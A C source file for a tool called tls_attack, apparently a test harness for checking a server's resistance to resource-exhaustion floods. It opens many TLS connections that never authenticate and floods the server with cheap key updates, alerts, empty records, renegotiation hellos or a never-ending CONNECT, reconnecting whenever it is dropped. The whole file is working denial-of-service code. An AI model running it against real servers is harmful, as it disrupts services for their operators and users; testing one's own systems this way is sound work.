/* tls_attack HOST PORT KIND CONNECTIONS BYTES: that many connections at a time, none of which ever
 * logs in.  Each does the handshake and makes BYTES of records that cost and move nothing.  Then
 * "ready", and a line on stdin lets all of them send at once: what is slow to make must not slow
 * the first flood down.  Who has sent it goes on with more, as fast as it is made and taken; who
 * is closed comes again.  Until stdin ends: then "closed=N sent=N" (connections, records). */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "raw_tls.h"

enum { CHUNK_BYTES = 2048, BYTES_MAX = 1 << 20, CONNECTIONS_MAX = 256, PATIENCE_S = 5 };

struct attacker {
	int fd; /* -1: not connected */
	SSL *ssl;
	struct raw_tls raw;
	struct buf out;
	size_t sent;
	bool has_begun;
};

static struct sockaddr_in server;
static SSL_CTX *tls;
static unsigned long closed, records;

typedef void put_fn(struct attacker *a);

/* Of a CONNECT that says 60,000 bytes will follow: it never ends. */
static void put_data(struct attacker *a)
{
	struct slice next = a->has_begun ? SLICE("\0") : SLICE("\x10\xe0\xd4\x03");

	raw_tls_put(&a->raw, &a->out, RAW_DATA, next, 0);
	a->has_begun = true;
}

static void put_key_update(struct attacker *a)
{
	raw_tls_put_key_update(&a->raw, &a->out, true, 1);
}

static void put_warning(struct attacker *a)
{
	raw_tls_put(&a->raw, &a->out, RAW_ALERT, SLICE("\x01\x5a"), 0);
	put_data(a);
}

static void put_empty(struct attacker *a)
{
	raw_tls_put(&a->raw, &a->out, RAW_DATA, SLICE_EMPTY, 0);
	put_data(a);
}

static void put_hello(struct attacker *a)
{
	raw_tls_put(&a->raw, &a->out, RAW_HANDSHAKE, SLICE("\x01\0\0\x04\x03\x03\0\0"), 0);
	put_data(a);
}

static const struct {
	const char *name;
	put_fn *put;
	int version;
} kinds[] = {
    {"key-updates", put_key_update, TLS1_3_VERSION},
    {"warnings", put_warning, TLS1_3_VERSION},
    {"empty", put_empty, TLS1_3_VERSION},
    {"bytes", put_data, TLS1_3_VERSION},
    {"renegotiation", put_hello, TLS1_2_VERSION},
};

static put_fn *put;

static void find_kind(const char *name)
{
	for (size_t i = 0; i < sizeof(kinds) / sizeof(kinds[0]); i++) {
		if (strcmp(kinds[i].name, name) != 0)
			continue;
		put = kinds[i].put;
		SSL_CTX_set_min_proto_version(tls, kinds[i].version);
		SSL_CTX_set_max_proto_version(tls, kinds[i].version);
	}
	if (put == NULL)
		abort();
}

static void drop(struct attacker *a)
{
	SSL_free(a->ssl);
	if (a->fd >= 0)
		close(a->fd);
	buf_fini(&a->out);
	*a = (struct attacker){.fd = -1};
}

static void come(struct attacker *a)
{
	struct timeval patience = {.tv_sec = PATIENCE_S};
	int on = 1;

	a->fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	setsockopt(a->fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof(patience));
	setsockopt(a->fd, IPPROTO_TCP, TCP_NODELAY, &on, sizeof(on));
	a->ssl = SSL_new(tls);
	SSL_set_fd(a->ssl, a->fd);
	if (connect(a->fd, (struct sockaddr *)&server, sizeof(server)) != 0 ||
	    SSL_connect(a->ssl) != 1 || !raw_tls_init(&a->raw, a->ssl)) {
		drop(a);
		return;
	}
	(void)fcntl(a->fd, F_SETFL, O_NONBLOCK);
}

static void make(struct attacker *a, size_t bytes)
{
	buf_clear(&a->out);
	a->sent = 0;
	while (a->out.len < bytes) {
		put(a);
		records++;
	}
}

static void go_on(struct attacker *a)
{
	ssize_t n;

	if (a->sent == a->out.len)
		make(a, CHUNK_BYTES);
	n = send(a->fd, a->out.data + a->sent, a->out.len - a->sent, MSG_NOSIGNAL);
	if (n > 0) {
		a->sent += (size_t)n;
	} else if (errno != EAGAIN) {
		closed++;
		drop(a);
	}
}

/* False: stdin has ended. */
static bool get_ready(struct attacker *all, int count, size_t bytes)
{
	char start;

	for (int i = 0; i < count; i++)
		come(&all[i]);
	for (int i = 0; i < count; i++) {
		if (all[i].fd >= 0)
			make(&all[i], bytes);
	}
	puts("ready");
	(void)fflush(stdout);
	return read(STDIN_FILENO, &start, 1) == 1;
}

static void run(struct attacker *all, int count)
{
	struct pollfd polls[CONNECTIONS_MAX + 1] = {0};

	while ((polls[count].revents & (POLLIN | POLLHUP)) == 0) {
		for (int i = 0; i < count; i++) {
			if (all[i].fd < 0)
				come(&all[i]);
			polls[i] = (struct pollfd){.fd = all[i].fd, .events = POLLOUT};
		}
		polls[count] = (struct pollfd){.fd = STDIN_FILENO, .events = POLLIN};
		(void)poll(polls, (nfds_t)count + 1, 100);
		for (int i = 0; i < count; i++) {
			if (all[i].fd >= 0 && polls[i].revents != 0)
				go_on(&all[i]);
		}
	}
}

int main(int argc, char **argv)
{
	static struct attacker all[CONNECTIONS_MAX];
	int count = argc == 6 ? atoi(argv[4]) : 0;
	int bytes = argc == 6 ? atoi(argv[5]) : 0;

	if (count < 1 || count > CONNECTIONS_MAX || bytes < 1 || bytes > BYTES_MAX)
		abort();
	(void)signal(SIGPIPE, SIG_IGN);
	server.sin_family = AF_INET;
	server.sin_port = htons((uint16_t)atoi(argv[2]));
	if (inet_pton(AF_INET, argv[1], &server.sin_addr) != 1)
		abort();
	tls = SSL_CTX_new(TLS_client_method());
	SSL_CTX_set_cipher_list(tls, RAW_SUITE_12);
	SSL_CTX_set_ciphersuites(tls, RAW_SUITE_13);
	raw_tls_watch(tls);
	find_kind(argv[3]);
	for (int i = 0; i < count; i++)
		all[i].fd = -1;
	if (get_ready(all, count, (size_t)bytes))
		run(all, count);
	for (int i = 0; i < count; i++)
		drop(&all[i]);
	SSL_CTX_free(tls);
	printf("closed=%lu sent=%lu\n", closed, records);
	return 0;
}
